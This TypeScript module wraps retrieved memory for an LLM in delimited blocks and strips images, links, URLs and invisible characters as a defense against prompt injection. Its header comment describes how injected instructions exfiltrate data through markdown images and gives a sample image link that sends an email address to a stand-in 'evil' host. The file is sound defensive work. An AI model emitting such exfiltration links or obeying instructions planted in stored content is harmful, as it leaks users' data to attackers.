/**
 * Retrieved memory is data, never instructions (OWASP LLM01: prompt injection through stored content). Every
 * retrieved text goes into the context inside a delimited block that it cannot close, with the things an
 * injected instruction would use to exfiltrate data defused:
 * - markdown images (`![x](http://evil/?d={email})`) are removed: a renderer would fetch them on its own;
 * - link targets and bare URLs are replaced by a placeholder: no attacker URL reaches the model's output;
 * - the delimiter tokens and invisible/control characters are stripped, so the block cannot end early.
 */
export const UNTRUSTED_OPEN = "<<<memory";
export const UNTRUSTED_CLOSE = "<<<end memory>>>";

const MARKDOWN_IMAGE = /!\[[^\]]*\]\([^)]*\)/g;
const MARKDOWN_LINK = /\[([^\]]*)\]\([^)]*\)/g;
const URL = /\b(?:[a-z][a-z0-9+.-]*:\/\/|www\.)[^\s<>"')\]]+/gi;
const DATA_URI = /\bdata:[a-z]+\/[a-z0-9.+-]+[;,][^\s]*/gi;
// C0/C1 controls except tab and newline, zero-width and bidi controls: invisible text an attacker can hide in.
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is this pattern's purpose.
const INVISIBLE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]/g;

export function sanitizeUntrusted(text: string): string {
  return text
    .replace(INVISIBLE, "")
    .replace(MARKDOWN_IMAGE, "[image removed]")
    .replace(MARKDOWN_LINK, "$1 [link removed]")
    .replace(DATA_URI, "[data removed]")
    .replace(URL, "[link removed]")
    .replaceAll("<<<", "‹‹‹")
    .replaceAll(">>>", "›››");
}

/** One retrieved text as a delimited, sanitized block naming where it came from. */
export function untrustedBlock(source: string, text: string): string {
  const label = source.replace(/[^\w:./-]/g, "_").slice(0, 80);
  return `${UNTRUSTED_OPEN} source=${label}>>>\n${sanitizeUntrusted(text)}\n${UNTRUSTED_CLOSE}`;
}
